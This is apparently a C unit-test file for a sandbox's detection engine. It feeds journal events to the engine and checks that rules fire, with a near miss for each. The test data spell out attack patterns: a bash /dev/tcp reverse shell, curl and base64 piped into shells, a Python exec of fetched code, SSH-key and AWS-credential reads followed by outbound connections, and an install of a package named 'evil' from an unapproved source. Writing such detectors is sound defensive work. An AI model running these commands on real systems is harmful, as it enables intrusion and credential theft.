/*
 * The detection engine on journal lines: conditions (equals, in, glob, regex, numbers,
 * and/or/not, nested fields, arrays, sessions), templates, rules-file errors with
 * FILE:LINE, the stateful detectors, rate limits, and the built-in rules that need the
 * gateway or the package sensor (DoH/DoT, blocked bursts, first-seen domains,
 * exfiltration, unapproved package sources) with a positive and a near miss each.
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "daemon/config.h"
#include "detect/detect.h"

#define MAX_SEEN 64

struct seen {
	char rule[64];
	char summary[256];
	char sid[32];
	uint64_t refs[DETECT_MAX_REFS];
	size_t n_refs;
	uint64_t suppressed;
};
static struct seen seen[MAX_SEEN];
static size_t n_seen;

static int on_alert(void *ctx, const struct detect_alert *a)
{
	struct seen *s = &seen[n_seen < MAX_SEEN ? n_seen++ : MAX_SEEN - 1];

	(void)ctx;
	snprintf(s->rule, sizeof(s->rule), "%s", a->rule);
	snprintf(s->summary, sizeof(s->summary), "%s", a->summary);
	snprintf(s->sid, sizeof(s->sid), "%s", a->session_id ? a->session_id : "");
	memcpy(s->refs, a->refs, a->n_refs * sizeof(a->refs[0]));
	s->n_refs = a->n_refs;
	s->suppressed = a->suppressed;
	return 0;
}

static struct detect *engine(const char *rules_yaml, const char *state_dir, unsigned rate)
{
	struct detect_settings s = { .rate_max = rate, .rate_window_ms = 60000,
				     .state_dir = state_dir, .on_alert = on_alert };
	struct config_errors errs = CONFIG_ERRORS_INIT;
	struct detect_rules *r = NULL;
	struct detect *d = NULL;

	if (rules_yaml)
		assert_int_equal(detect_rules_load_buffer(&r, "t.yaml", rules_yaml,
							  strlen(rules_yaml), NULL, &errs), 0);
	assert_int_equal(config_errors_count(&errs), 0);
	assert_int_equal(detect_new(&d, &s, r), 0);
	n_seen = 0;
	return d;
}

/* The source tree's rules/ (SANDGATE_TESTDATA is tests/data). */
static struct detect *builtin(const char *state_dir)
{
	struct detect_settings s = { .rate_max = 100, .rate_window_ms = 60000,
				     .state_dir = state_dir, .on_alert = on_alert };
	struct config_errors errs = CONFIG_ERRORS_INIT;
	struct detect_vars v = { "/var/lib/sandgate", "/run/sandgate/control.sock" };
	char dir[4096], *paths[1] = { dir };
	struct detect_rules *r = NULL;
	struct detect *d = NULL;
	const char *td = getenv("SANDGATE_TESTDATA");

	snprintf(dir, sizeof(dir), "%s/../../rules", td ? td : "tests/data");
	assert_int_equal(detect_rules_load_paths(&r, paths, 1, &v, &errs), 0);
	assert_true(detect_rules_count(r) >= 20);
	assert_int_equal(detect_new(&d, &s, r), 0);
	n_seen = 0;
	return d;
}

static void feed(struct detect *d, const char *line)
{
	assert_int_equal(detect_feed_line(d, line, strlen(line)), 0);
}

static size_t count(const char *rule)
{
	size_t n = 0;

	for (size_t i = 0; i < n_seen; i++)
		n += strcmp(seen[i].rule, rule) == 0;
	return n;
}

static const struct seen *find(const char *rule)
{
	for (size_t i = 0; i < n_seen; i++)
		if (strcmp(seen[i].rule, rule) == 0)
			return &seen[i];
	return NULL;
}

#define TS(s) "\"ts\":\"2026-06-29T10:00:" s "Z\""

/* ---- conditions and templates ------------------------------------------------------ */

static const char cond_rules[] =
	"rules:\n"
	"  - id: eq-num\n    severity: low\n    events: net.connect\n"
	"    condition: {dst.port: 853}\n    summary: \"port {dst.port} of {dst.ip}\"\n"
	"  - id: in-glob\n    severity: low\n    events: [file.write]\n"
	"    condition:\n      path: {glob: [\"*/.ssh/*\", \"*.pem\"]}\n"
	"      uid: {in: [0, 1000]}\n    summary: \"{path}\"\n"
	"  - id: regex-args\n    severity: high\n    events: process.exec\n"
	"    condition: {args: {regex: \"^/dev/(tcp|udp)/\"}}\n    summary: \"{cmd} {args}\"\n"
	"  - id: numeric\n    severity: medium\n"
	"    condition:\n      any:\n        - bytes_out: {gt: 1000000}\n"
	"        - all: [{bytes_in: {ge: 5}}, {bytes_in: {le: 5}}]\n"
	"    summary: \"{bytes_out}/{bytes_in}\"\n"
	"  - id: not-and-session\n    severity: high\n"
	"    condition:\n      uid: 0\n      session.user_id: {exists: true}\n"
	"      not: {session.user_id: [root, \"0\"]}\n"
	"    summary: \"uid 0 for {session.user_id} {{braces}}\"\n"
	"  - id: fields\n    severity: low\n    events: process.exec\n"
	"    condition: {euid: {ne_field: uid}, cmd: {prefix: /usr/, contains: bin}}\n"
	"    summary: \"{cmd} {missing.field}\"\n";

static void test_conditions(void **state)
{
	struct detect *d = engine(cond_rules, NULL, 0);

	(void)state;
	feed(d, "{\"seq\":1,\"event\":\"net.connect\"," TS("00.0") ",\"session_id\":\"s\","
		"\"dst\":{\"ip\":\"198.18.0.1\",\"port\":853}}");
	feed(d, "{\"seq\":2,\"event\":\"net.connect\",\"session_id\":\"s\","
		"\"dst\":{\"ip\":\"198.18.0.1\",\"port\":8853}}");
	assert_int_equal(count("eq-num"), 1);
	assert_string_equal(find("eq-num")->summary, "port 853 of 198.18.0.1");
	feed(d, "{\"seq\":3,\"event\":\"file.write\",\"path\":\"/h/.ssh/x\",\"uid\":1000}");
	feed(d, "{\"seq\":4,\"event\":\"file.write\",\"path\":\"/h/.ssh-x/y\",\"uid\":1000}");
	feed(d, "{\"seq\":5,\"event\":\"file.write\",\"path\":\"/k.pem\",\"uid\":7}");
	feed(d, "{\"seq\":6,\"event\":\"file.read\",\"path\":\"/k.pem\",\"uid\":0}");
	assert_int_equal(count("in-glob"), 1);
	feed(d, "{\"seq\":7,\"event\":\"process.exec\",\"cmd\":\"bash\","
		"\"args\":[\"-i\",\"/dev/tcp/1.2.3.4/4\"],\"uid\":5,\"euid\":5}");
	feed(d, "{\"seq\":8,\"event\":\"process.exec\",\"cmd\":\"bash\","
		"\"args\":[\"-i\",\"x/dev/tcp/\"],\"uid\":5,\"euid\":5}");
	assert_int_equal(count("regex-args"), 1);
	assert_string_equal(find("regex-args")->summary, "bash -i /dev/tcp/1.2.3.4/4");
	feed(d, "{\"seq\":9,\"event\":\"net.flow\",\"bytes_out\":1000001,\"bytes_in\":1}");
	feed(d, "{\"seq\":10,\"event\":\"net.flow\",\"bytes_out\":10,\"bytes_in\":5}");
	feed(d, "{\"seq\":11,\"event\":\"net.flow\",\"bytes_out\":1000000,\"bytes_in\":6}");
	assert_int_equal(count("numeric"), 2);
	feed(d, "{\"seq\":12,\"event\":\"session.create\",\"session_id\":\"a\",\"user_id\":\"al\"}");
	feed(d, "{\"seq\":13,\"event\":\"session.create\",\"session_id\":\"r\",\"user_id\":\"root\"}");
	feed(d, "{\"seq\":14,\"event\":\"file.write\",\"session_id\":\"r\",\"path\":\"/x\",\"uid\":0}");
	feed(d, "{\"seq\":15,\"event\":\"file.write\",\"session_id\":\"a\",\"path\":\"/x\",\"uid\":3}");
	feed(d, "{\"seq\":16,\"event\":\"file.write\",\"session_id\":\"a\",\"path\":\"/x\",\"uid\":0}");
	assert_int_equal(count("not-and-session"), 1);
	assert_string_equal(find("not-and-session")->summary, "uid 0 for al {braces}");
	assert_string_equal(find("not-and-session")->sid, "a");
	assert_int_equal(find("not-and-session")->refs[0], 16);
	feed(d, "{\"seq\":17,\"event\":\"process.exec\",\"cmd\":\"/usr/bin/su\",\"uid\":5,\"euid\":0}");
	feed(d, "{\"seq\":18,\"event\":\"process.exec\",\"cmd\":\"/usr/bin/su\",\"uid\":5,\"euid\":5}");
	feed(d, "{\"seq\":19,\"event\":\"process.exec\",\"cmd\":\"/usr/bin/su\",\"uid\":5,\"euid\":null}");
	feed(d, "{\"seq\":20,\"event\":\"process.exec\",\"cmd\":\"/opt/bin/su\",\"uid\":5,\"euid\":0}");
	assert_int_equal(count("fields"), 1);
	assert_string_equal(find("fields")->summary, "/usr/bin/su null");
	feed(d, "not json");
	feed(d, "[1,2]");
	feed(d, "{\"seq\":21,\"event\":\"alert\",\"rule\":\"eq-num\",\"dst\":{\"port\":853}}");
	assert_int_equal(count("eq-num"), 1);   /* alerts never feed rules */
	detect_free(d);
}

/* ---- rules-file errors ------------------------------------------------------------ */

static void expect_error(const char *yaml, unsigned line, const char *needle)
{
	struct config_errors errs = CONFIG_ERRORS_INIT;
	struct detect_rules *r = NULL;
	char buf[512];
	bool found = false;

	assert_int_equal(detect_rules_load_buffer(&r, "bad.yaml", yaml, strlen(yaml), NULL,
						  &errs), -EINVAL);
	for (size_t i = 0; i < config_errors_count(&errs); i++) {
		config_error_format(config_errors_at(&errs, i), buf, sizeof(buf));
		if (config_errors_at(&errs, i)->line == line && strstr(buf, needle) &&
		    strncmp(buf, "bad.yaml:", 9) == 0)
			found = true;
	}
	if (!found)
		for (size_t i = 0; i < config_errors_count(&errs); i++) {
			config_error_format(config_errors_at(&errs, i), buf, sizeof(buf));
			fprintf(stderr, "got: %s\n", buf);
		}
	assert_true(found);
	assert_int_equal(detect_rules_count(r), 0);   /* nothing half-loaded */
	detect_rules_free(r);
	config_errors_free(&errs);
}

#define R0 "rules:\n  - id: a\n    severity: low\n    summary: s\n"

static void test_load_errors(void **state)
{
	(void)state;
	expect_error("rules:\n  - id: a\n    severity: loud\n    summary: s\n", 3, "expected one of");
	expect_error(R0 "    events: x\n    condition: {path: {regex: \"a((\"}}\n", 6, "regular expression");
	expect_error(R0 "    events: x\n    condition: {port: {gt: many}}\n", 6, "needs a number");
	expect_error(R0 "    events: x\n    condition: {port: {frob: 1}}\n", 6, "unknown operator");
	expect_error(R0 "    events: x\n    condition:\n      any: []\n", 7, "non-empty list");
	expect_error(R0 "    events: x\n    condition: {a..b: 1}\n", 6, "not a field path");
	expect_error(R0 "    events: x\n    flavour: 1\n", 6, "unknown rule key");
	expect_error("rules:\n  - id: a\n    severity: low\n    events: x\n    summary: \"{x\"\n",
		     5, "placeholder");
	expect_error("rules:\n  - id: a\n    severity: low\n    events: x\n    summary: \"}\"\n",
		     5, "unmatched");
	expect_error(R0 "    events: x\n  - id: a\n    severity: low\n    events: x\n"
		     "    summary: s\n", 6, "duplicate rule id");
	expect_error("rules:\n  - id: Bad Id\n    severity: low\n    events: x\n    summary: s\n",
		     2, "rule id");
	expect_error("rules:\n  - severity: low\n    events: x\n", 2, "needs id, severity");
	expect_error("rules:\n  - id: a\n    severity: low\n    summary: s\n", 2, "neither events");
	expect_error(R0 "    events: x\n    detector: magic\n", 6, "expected one of");
	expect_error(R0 "    events: x\n    window: forever\n", 6, "");
	expect_error("rules: [\n", 2, "YAML");
	expect_error("rulez: []\n", 1, "unknown key");
}

/* ---- detectors ------------------------------------------------------------------- */

#define EXEC(seq, pid, ppid, cmd, args, in, out) \
	"{\"seq\":" #seq ",\"event\":\"process.exec\"," TS("01.0") ",\"session_id\":\"s\"," \
	"\"pid\":" #pid ",\"ppid\":" #ppid ",\"uid\":1,\"euid\":1,\"cmd\":\"" cmd "\"," \
	"\"args\":" args ",\"stdin\":" in ",\"stdout\":" out "}"

static void test_pipe_to_shell(void **state)
{
	struct detect *d = builtin(NULL);

	(void)state;
	/* curl | sh, shell seen first */
	feed(d, EXEC(1, 10, 9, "sh", "[]", "\"pipe:[100]\"", "\"tty\""));
	feed(d, EXEC(2, 11, 9, "/usr/bin/curl", "[\"-s\",\"http://x\"]", "\"tty\"", "\"pipe:[100]\""));
	assert_int_equal(count("pipe-to-shell"), 1);
	assert_int_equal(find("pipe-to-shell")->n_refs, 2);
	assert_int_equal(find("pipe-to-shell")->refs[0], 1);
	assert_int_equal(find("pipe-to-shell")->refs[1], 2);
	assert_string_equal(find("pipe-to-shell")->summary,
			    "curl piped into sh (pipe:[100]): download-and-run");
	/* base64 -d | gunzip | bash -s: through a relay */
	feed(d, EXEC(3, 20, 9, "base64", "[\"-d\"]", "\"file:/x\"", "\"pipe:[200]\""));
	feed(d, EXEC(4, 21, 9, "gunzip", "[]", "\"pipe:[200]\"", "\"pipe:[201]\""));
	feed(d, EXEC(5, 22, 9, "bash", "[\"-s\",\"arg\"]", "\"pipe:[201]\"", "\"tty\""));
	assert_int_equal(count("pipe-to-shell"), 2);
	/* near misses: a script file; base64 encoding (no -d); python -c with a file */
	feed(d, EXEC(6, 30, 9, "curl", "[]", "\"tty\"", "\"pipe:[300]\""));
	feed(d, EXEC(7, 31, 9, "sh", "[\"script.sh\"]", "\"pipe:[300]\"", "\"tty\""));
	feed(d, EXEC(8, 32, 9, "base64", "[]", "\"tty\"", "\"pipe:[301]\""));
	feed(d, EXEC(9, 33, 9, "sh", "[]", "\"pipe:[301]\"", "\"tty\""));
	feed(d, EXEC(10, 34, 9, "curl", "[]", "\"tty\"", "\"pipe:[302]\""));
	feed(d, EXEC(11, 35, 9, "sh", "[\"-c\",\"cat\"]", "\"pipe:[302]\"", "\"tty\""));
	assert_int_equal(count("pipe-to-shell"), 2);
	/* python -c downloader into python reading stdin */
	feed(d, EXEC(12, 40, 9, "python3", "[\"-c\",\"import urllib\"]", "\"tty\"", "\"pipe:[400]\""));
	feed(d, EXEC(13, 41, 9, "python3", "[\"-\"]", "\"pipe:[400]\"", "\"tty\""));
	assert_int_equal(count("pipe-to-shell"), 3);
	/* through a FIFO (by path); into sh -c 'eval "$(cat)"' */
	feed(d, EXEC(14, 50, 9, "curl", "[]", "\"tty\"", "\"file:/tmp/p\""));
	feed(d, EXEC(15, 51, 9, "sh", "[]", "\"file:/tmp/p\"", "\"tty\""));
	assert_int_equal(count("pipe-to-shell"), 4);
	feed(d, EXEC(16, 60, 9, "curl", "[]", "\"tty\"", "\"pipe:[600]\""));
	feed(d, EXEC(17, 61, 9, "bash", "[\"-c\",\"eval \\\"$(cat)\\\"\"]", "\"pipe:[600]\"", "\"tty\""));
	assert_int_equal(count("pipe-to-shell"), 5);
	/* bash -c "$(curl ...)": curl's output read by its parent (70), which execs bash */
	feed(d, EXEC(18, 71, 70, "curl", "[]", "\"tty\"", "\"pipe:[700]\""));
	feed(d, EXEC(19, 70, 9, "bash", "[\"-c\",\"echo pwned\"]", "\"tty\"", "\"tty\""));
	assert_int_equal(count("pipe-to-shell"), 6);
	/* near miss: /dev/null is not a pairing */
	feed(d, EXEC(20, 80, 9, "curl", "[]", "\"tty\"", "\"file:/dev/null\""));
	feed(d, EXEC(21, 81, 9, "sh", "[]", "\"file:/dev/null\"", "\"tty\""));
	assert_int_equal(count("pipe-to-shell"), 6);
	detect_free(d);
}

#define EXEC_EXE(seq, pid, ppid, cmd, exe, known, args, in, out) \
	"{\"seq\":" #seq ",\"event\":\"process.exec\"," TS("02.0") ",\"session_id\":\"t\"," \
	"\"pid\":" #pid ",\"ppid\":" #ppid ",\"uid\":1,\"euid\":1,\"cmd\":\"" cmd "\"," \
	"\"exe\":\"" exe "\",\"program\":\"" exe "\",\"exe_known_as\":" known "," \
	"\"args\":" args ",\"stdin\":" in ",\"stdout\":" out ",\"cwd\":\"/w\"}"

/* exe, not argv[0]: exec -a, a renamed copy, the dynamic loader */
static void test_exe_not_argv0(void **state)
{
	struct detect *d = builtin(NULL);

	(void)state;
	feed(d, EXEC_EXE(1, 10, 9, "innocent", "/usr/bin/curl", "null", "[]", "\"tty\"", "\"pipe:[1]\""));
	feed(d, EXEC_EXE(2, 11, 9, "sh", "/usr/bin/dash", "\"dash\"", "[]", "\"pipe:[1]\"", "\"tty\""));
	assert_int_equal(count("pipe-to-shell"), 1);
	feed(d, EXEC_EXE(3, 12, 9, "fetch2", "/w/fetch2", "\"curl\"", "[]", "\"tty\"", "\"pipe:[2]\""));
	feed(d, EXEC_EXE(4, 13, 9, "x", "/w/x", "\"bash\"", "[]", "\"pipe:[2]\"", "\"tty\""));
	assert_int_equal(count("pipe-to-shell"), 2);
	feed(d, EXEC_EXE(5, 14, 9, "/lib64/ld-linux-x86-64.so.2", "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
			 "\"curl\"", "[\"/usr/bin/curl\",\"-s\"]", "\"tty\"", "\"pipe:[3]\""));
	feed(d, EXEC_EXE(6, 15, 9, "/lib64/ld-linux-x86-64.so.2", "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
			 "\"dash\"", "[\"/bin/sh\"]", "\"pipe:[3]\"", "\"tty\""));
	assert_int_equal(count("pipe-to-shell"), 3);
	/* near miss: argv[0] says curl, the exe is cat: a local script piped to a shell */
	feed(d, EXEC_EXE(7, 16, 9, "curl", "/usr/bin/cat", "null", "[\"l.sh\"]", "\"tty\"", "\"pipe:[4]\""));
	feed(d, EXEC_EXE(8, 17, 9, "sh", "/usr/bin/dash", "\"dash\"", "[]", "\"pipe:[4]\"", "\"tty\""));
	assert_int_equal(count("pipe-to-shell"), 3);
	detect_free(d);
}

/* exec_of_downloaded_file; near miss: the downloaded file only read */
static void test_downloaded_exec(void **state)
{
	struct detect *d = builtin(NULL);

	(void)state;
	feed(d, EXEC_EXE(1, 10, 9, "curl", "/usr/bin/curl", "\"curl\"", "[\"-o\",\"x\"]", "\"tty\"", "\"tty\""));
	feed(d, "{\"seq\":2,\"event\":\"file.write\"," TS("02.0") ",\"session_id\":\"t\","
		"\"path\":\"/w/x\",\"pid\":10,\"uid\":1}");
	feed(d, "{\"seq\":3,\"event\":\"file.write\"," TS("02.0") ",\"session_id\":\"t\","
		"\"path\":\"/w/y\",\"pid\":10,\"uid\":1}");
	feed(d, EXEC_EXE(4, 11, 9, "cat", "/usr/bin/cat", "null", "[\"/w/y\"]", "\"tty\"", "\"tty\""));
	assert_int_equal(count("exec_of_downloaded_file"), 0);
	feed(d, EXEC_EXE(5, 12, 9, "./x", "/w/x", "null", "[]", "\"tty\"", "\"tty\""));
	assert_int_equal(count("exec_of_downloaded_file"), 1);
	assert_int_equal(find("exec_of_downloaded_file")->refs[0], 2);
	feed(d, EXEC_EXE(6, 13, 9, "sh", "/usr/bin/dash", "\"dash\"", "[\"./y\"]", "\"tty\"", "\"tty\""));
	assert_int_equal(count("exec_of_downloaded_file"), 2);
	feed(d, "{\"seq\":7,\"event\":\"process.exec\"," TS("02.0") ",\"session_id\":\"t\","
		"\"pid\":14,\"cmd\":\"python3\",\"exe\":\"/usr/bin/python3.11\","
		"\"exe_known_as\":\"python3\",\"args\":[\"-c\",\"from urllib.request import "
		"urlopen; exec(urlopen('http://x').read())\"]}");
	assert_int_equal(count("download-and-run-inline"), 1);
	detect_free(d);
}

/* The file event read by its sensor after the exec that follows it in the journal: its
 * time is later than the exec's (under load, by up to RING_SKEW_US); still a match. Past
 * the skew it is not (the journal order alone cannot be trusted that far). */
static void test_downloaded_exec_skew(void **state)
{
	struct detect *d = builtin(NULL);

	(void)state;
	feed(d, EXEC_EXE(1, 10, 9, "curl", "/usr/bin/curl", "\"curl\"", "[\"-o\",\"x\"]", "\"tty\"", "\"tty\""));
	feed(d, "{\"seq\":2,\"event\":\"file.write\"," TS("03.5") ",\"session_id\":\"t\","
		"\"path\":\"/w/x\",\"pid\":10,\"uid\":1}");
	feed(d, "{\"seq\":3,\"event\":\"file.write\"," TS("05.0") ",\"session_id\":\"t\","
		"\"path\":\"/w/far\",\"pid\":10,\"uid\":1}");
	feed(d, EXEC_EXE(4, 12, 9, "./x", "/w/x", "null", "[]", "\"tty\"", "\"tty\""));
	assert_int_equal(count("exec_of_downloaded_file"), 1);
	feed(d, EXEC_EXE(5, 13, 9, "./far", "/w/far", "null", "[]", "\"tty\"", "\"tty\""));
	assert_int_equal(count("exec_of_downloaded_file"), 1);
	detect_free(d);
}

/* crontab by its name or as busybox's applet; near misses: -l, busybox's other applets */
static void test_crontab(void **state)
{
	struct detect *d = builtin(NULL);

	(void)state;
	feed(d, EXEC(1, 10, 9, "/usr/bin/crontab", "[\"-e\"]", "\"tty\"", "\"tty\""));
	feed(d, EXEC(2, 11, 9, "busybox", "[\"crontab\",\"-c\",\"/d\",\"f\"]", "\"tty\"", "\"tty\""));
	assert_int_equal(count("crontab-edit"), 2);
	feed(d, EXEC(3, 12, 9, "crontab", "[\"-l\"]", "\"tty\"", "\"tty\""));
	feed(d, EXEC(4, 13, 9, "busybox", "[\"crontab\",\"-l\"]", "\"tty\"", "\"tty\""));
	feed(d, EXEC(5, 14, 9, "busybox", "[\"ls\",\"-e\"]", "\"tty\"", "\"tty\""));
	assert_int_equal(count("crontab-edit"), 2);
	detect_free(d);
}

#define NET(seq, ts, sid, pid, extra) \
	"{\"seq\":" #seq ",\"event\":\"net.connect\"," TS(ts) ",\"session_id\":\"" sid "\"," \
	"\"pid\":" #pid ",\"uid\":1,\"proto\":\"tcp\",\"dst\":{\"ip\":\"198.18.0.9\",\"port\":443}," extra "}"

static void test_exfiltration(void **state)
{
	struct detect *d = builtin(NULL);

	(void)state;
	feed(d, EXEC(1, 10, 1, "sh", "[\"-c\",\"x\"]", "\"tty\"", "\"tty\""));
	feed(d, EXEC(2, 11, 10, "cat", "[]", "\"tty\"", "\"pipe:[5]\""));
	feed(d, EXEC(3, 12, 10, "curl", "[]", "\"pipe:[5]\"", "\"tty\""));
	feed(d, EXEC(4, 50, 2, "curl", "[]", "\"tty\"", "\"tty\""));
	feed(d, "{\"seq\":5,\"event\":\"file.read\"," TS("02.0") ",\"session_id\":\"s\","
		"\"path\":\"/home/u/.ssh/id_rsa\",\"pid\":11,\"uid\":1}");
	/* near miss: a process of another tree connects */
	feed(d, NET(6, "03.0", "s", 50, "\"domain\":\"a.test\",\"verdict\":\"allowed\""));
	assert_int_equal(count("exfiltration-shape"), 0);
	/* the sibling in the same pipeline connects */
	feed(d, NET(7, "04.0", "s", 12, "\"domain\":\"b.test\",\"verdict\":\"allowed\""));
	assert_int_equal(count("exfiltration-shape"), 1);
	assert_int_equal(find("exfiltration-shape")->refs[0], 5);
	assert_int_equal(find("exfiltration-shape")->refs[1], 7);
	/* near miss: outside the window */
	feed(d, "{\"seq\":8,\"event\":\"file.read\"," TS("05.0") ",\"session_id\":\"s\","
		"\"path\":\"/home/u/.aws/credentials\",\"pid\":11,\"uid\":1}");
	feed(d, "{\"seq\":9,\"event\":\"net.connect\",\"ts\":\"2026-06-29T10:03:00.0Z\","
		"\"session_id\":\"s\",\"pid\":12,\"dst\":{\"ip\":\"1.1.1.1\",\"port\":1}}");
	assert_int_equal(count("exfiltration-shape"), 1);
	detect_free(d);
}

static void test_net_rules(void **state)
{
	char dir[] = "/tmp/sgdetectXXXXXX";
	struct detect *d;

	(void)state;
	assert_non_null(mkdtemp(dir));
	d = builtin(dir);
	feed(d, "{\"seq\":1,\"event\":\"session.create\",\"session_id\":\"s\",\"tenant_id\":\"t1\"}");
	feed(d, "{\"seq\":2,\"event\":\"session.create\",\"session_id\":\"s2\",\"tenant_id\":\"t1\"}");
	feed(d, "{\"seq\":3,\"event\":\"session.create\",\"session_id\":\"s3\",\"tenant_id\":\"t2\"}");
	/* DoH/DoT: by reason, by port; near miss: 443 with another reason */
	feed(d, NET(4, "00.0", "s", 1, "\"reason\":\"doh_endpoint\",\"verdict\":\"blocked\""));
	feed(d, "{\"seq\":5,\"event\":\"net.connect\",\"session_id\":\"s\",\"dst\":{\"ip\":\"198.18.0.1\",\"port\":853},\"verdict\":\"blocked\"}");
	feed(d, NET(6, "00.0", "s", 1, "\"reason\":\"not_allowed\",\"verdict\":\"blocked\""));
	assert_int_equal(count("doh-dot-attempt"), 2);
	/* blocked bursts: 9 blocked is a near miss, the 10th within 30 s alerts */
	for (int i = 0; i < 7; i++) {
		char line[512];

		snprintf(line, sizeof(line), "{\"seq\":%d,\"event\":\"net.dns\",\"ts\":"
			 "\"2026-06-29T10:00:%02d.0Z\",\"session_id\":\"s\",\"qname\":\"x%d.test\","
			 "\"verdict\":\"blocked\"}", 10 + i, i, i);
		feed(d, line);
	}
	assert_int_equal(count("blocked-egress-burst"), 0);
	feed(d, NET(20, "20.0", "s", 1, "\"reason\":\"x\",\"verdict\":\"allowed\""));
	assert_int_equal(count("blocked-egress-burst"), 0);
	feed(d, NET(21, "21.0", "s", 1, "\"reason\":\"x\",\"verdict\":\"blocked\""));
	assert_int_equal(count("blocked-egress-burst"), 1);
	assert_true(find("blocked-egress-burst")->n_refs >= 10);
	/* first-seen domains: per tenant, case and trailing dot folded, blocked ignored */
	feed(d, NET(30, "30.0", "s", 1, "\"domain\":\"Api.Example.test.\",\"verdict\":\"allowed\""));
	feed(d, NET(31, "31.0", "s2", 1, "\"domain\":\"api.example.test\",\"verdict\":\"allowed\""));
	feed(d, NET(32, "32.0", "s3", 1, "\"domain\":null,\"sni\":\"api.example.test\",\"verdict\":\"allowed\""));
	feed(d, NET(33, "33.0", "s3", 1, "\"domain\":\"new.test\",\"verdict\":\"blocked\""));
	assert_int_equal(count("first-seen-domain"), 2);
	assert_string_equal(find("first-seen-domain")->summary,
			    "tenant t1 reached api.example.test for the first time");
	assert_int_equal(detect_flush(d), 0);
	detect_free(d);
	/* persisted: a new engine on the same state dir knows them */
	d = builtin(dir);
	feed(d, "{\"seq\":40,\"event\":\"session.create\",\"session_id\":\"s\",\"tenant_id\":\"t1\"}");
	feed(d, NET(41, "40.0", "s", 1, "\"domain\":\"api.example.test\",\"verdict\":\"allowed\""));
	feed(d, NET(42, "41.0", "s", 1, "\"domain\":\"other.test\",\"verdict\":\"allowed\""));
	assert_int_equal(count("first-seen-domain"), 1);
	/* unapproved package sources; near miss: approved */
	feed(d, "{\"seq\":50,\"event\":\"package.install\",\"session_id\":\"s\",\"manager\":\"pip\","
		"\"name\":\"evil\",\"resolved_version\":\"1.0\",\"registry\":\"http://198.18.0.5/x\","
		"\"approved_source\":false,\"unapproved_action\":\"flag\"}");
	feed(d, "{\"seq\":51,\"event\":\"package.install\",\"session_id\":\"s\",\"manager\":\"pip\","
		"\"name\":\"ok\",\"registry\":\"https://pypi.org/simple\",\"approved_source\":true}");
	assert_int_equal(count("package-unapproved-source"), 1);
	assert_string_equal(find("package-unapproved-source")->summary,
			    "pip installed evil 1.0 from http://198.18.0.5/x: not an approved source "
			    "(policy: flag)");
	detect_free(d);
	{
		char p[4200];

		snprintf(p, sizeof(p), "%s/detect/domains.txt", dir);
		unlink(p);
		snprintf(p, sizeof(p), "%s/detect", dir);
		rmdir(p);
		rmdir(dir);
	}
}

static void test_cleanup_and_rate(void **state)
{
	struct detect *d = builtin(NULL);
	struct detect_stats st;
	char *page = NULL;
	size_t len = 0;
	FILE *f;

	(void)state;
	for (int i = 0; i < 3; i++) {
		char line[256];

		snprintf(line, sizeof(line), "{\"seq\":%d,\"event\":\"file.delete\",\"ts\":"
			 "\"2026-06-29T10:00:%02d.0Z\",\"session_id\":\"s\",\"path\":\"/w/%d\","
			 "\"pid\":3,\"uid\":1}", i + 1, i * 5, i);
		feed(d, line);
	}
	/* 0 s, 5 s, 10 s: at 14 s only two are within 10 s (near miss) */
	feed(d, "{\"seq\":9,\"event\":\"session.terminate\"," TS("14.0") ",\"session_id\":\"s\","
		"\"reason\":\"normal\"}");
	assert_int_equal(count("cleanup-before-end"), 0);
	feed(d, "{\"seq\":10,\"event\":\"file.delete\"," TS("20.0") ",\"session_id\":\"t\",\"path\":\"/a\"}");
	feed(d, "{\"seq\":11,\"event\":\"file.delete\"," TS("21.0") ",\"session_id\":\"t\",\"path\":\"/b\"}");
	feed(d, "{\"seq\":12,\"event\":\"file.delete\"," TS("22.0") ",\"session_id\":\"t\",\"path\":\"/c\"}");
	feed(d, "{\"seq\":13,\"event\":\"session.terminate\"," TS("23.0") ",\"session_id\":\"t\","
		"\"reason\":\"oom\"}");
	assert_int_equal(count("cleanup-before-end"), 1);
	assert_int_equal(count("session-ended-badly"), 1);
	detect_free(d);

	/* rate limit: 2 per rule and session per minute, the rest counted */
	d = engine("rules:\n  - id: r\n    severity: low\n    events: x\n    summary: s\n", NULL, 2);
	for (int i = 0; i < 5; i++)
		feed(d, "{\"seq\":1,\"event\":\"x\"," TS("00.0") ",\"session_id\":\"a\"}");
	feed(d, "{\"seq\":1,\"event\":\"x\"," TS("00.0") ",\"session_id\":\"b\"}");
	feed(d, "{\"seq\":1,\"event\":\"x\",\"ts\":\"2026-06-29T10:01:01.0Z\",\"session_id\":\"a\"}");
	assert_int_equal(count("r"), 4);
	assert_int_equal(seen[3].suppressed, 3);
	detect_get_stats(d, &st);
	assert_int_equal(st.suppressed, 3);
	assert_int_equal(st.alerts, 4);
	f = open_memstream(&page, &len);
	assert_non_null(f);
	assert_int_equal(detect_metrics(d, f), 0);
	fclose(f);
	assert_non_null(strstr(page, "sandgate_detect_alerts_total{rule=\"r\",severity=\"low\"} 4"));
	assert_non_null(strstr(page, "sandgate_detect_alerts_suppressed_total 3"));
	free(page);
	detect_free(d);
}

/* ---- the detection: config section ----------------------------------------------------- */

/*
 * Lines of an event type no rule reads are counted and not parsed (detect.h): here in
 * the journal's own shape, the envelope at its fixed places. Control: a rule that lists
 * net.flow reads the same line and alerts on it.
 */
#define ENV(seq, type) "{\"ts\":\"2026-06-29T10:00:01.000000Z\",\"seq\":" #seq \
	",\"prev\":\"" "0000000000000000000000000000000000000000000000000000000000000000" \
	"\",\"event\":\"" type "\",\"host\":\"h\",\"session_id\":\"s\""
static const char flow_line[] = ENV(1, "net.flow") ",\"bytes_out\":5000,\"pid\":4}";

static void test_unread_types(void **state)
{
	struct detect *d = builtin(NULL);
	struct detect_stats st;

	(void)state;
	feed(d, flow_line);
	feed(d, ENV(2, "process.exit") ",\"pid\":4,\"code\":0}");
	feed(d, ENV(3, "alert") ",\"rule\":\"x\"}");
	feed(d, ENV(4, "net.flow") ",\"bytes_out\":");            /* broken, not read */
	detect_get_stats(d, &st);
	assert_int_equal(st.lines, 4);
	assert_int_equal(st.unread, 4);
	assert_int_equal(st.bad_lines, 0);
	/* What a rule or the session book reads is parsed: an exec as uid 0, a broken
	 * net.connect (bad), a line whose envelope is not in its place (read whole). */
